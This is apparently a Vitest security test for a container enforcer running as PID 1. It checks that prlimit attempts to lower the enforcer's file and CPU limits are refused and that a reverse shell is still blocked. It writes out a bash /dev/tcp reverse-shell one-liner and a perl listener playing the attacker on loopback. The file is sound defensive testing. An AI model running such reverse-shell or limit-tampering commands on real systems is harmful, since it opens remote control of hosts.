// Attacks on the enforcer as PID 1 that no other test lists (docs/security-review.md): a root application
// lowering the enforcer's resource limits with prlimit — RLIMIT_NOFILE 0 left the exec protections
// unable to read /proc and a reverse shell ran; RLIMIT_CPU gets it killed by the kernel.
import path from "node:path";
import { writeFileSync } from "node:fs";
import { beforeAll, describe, expect, test } from "vitest";
import { enforcerContainers } from "./enforcer-container.js";

const containers = enforcerContainers("unlisted");

beforeAll(() => {
  writeFileSync(path.join(containers.dir, "policy"), "vigil-policy 1\nexec.reverseShell block\nexec.drift block\nend\n");
});

// a loopback "attacker" in the container (no network): sends a command, prints what comes back
const ATTACKER =
  `perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(LocalAddr => "127.0.0.1:4470", Listen => 1, ReuseAddr => 1) or die; ` +
  `$SIG{ALRM} = sub { exit }; alarm 5; $c = $l->accept; print $c "/bin/echo SHELL-\\$((6*7)); exit\\n"; while (<$c>) { print "attacker got: $_" }' &`;

describe("the enforcer's resource limits, as PID 1 of a root application", () => {
  test("prlimit --pid 1 is refused (NOFILE, CPU); the reverse shell after it is still blocked; the app sets its own limits", async () => {
    const r = await containers.run(
      path.join(containers.dir, "policy"),
      [
        ATTACKER,
        "sleep 0.5",
        'prlimit --pid 1 --nofile=0:0 2>/dev/null; echo "nofile=$?"',
        'prlimit --pid 1 --cpu=1:1 2>/dev/null; echo "cpu=$?"',
        'prlimit --pid $$ --nofile=512:512; echo "self=$?"',
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4470 0>&1'",
        'echo "shell=$?"',
        "wait",
      ].join("\n"),
    );
    expect(r.stdout).toMatch(/^nofile=1$/m);
    expect(r.stdout).toMatch(/^cpu=1$/m);
    expect(r.stdout).toMatch(/^self=0$/m);
    expect(r.stdout).toMatch(/^shell=126$/m);
    expect(r.stdout).not.toMatch(/SHELL-42/);
    expect(r.stderr).toMatch(/"verdict":"blocked","rule":"exec.reverseShell"/);
  });
});
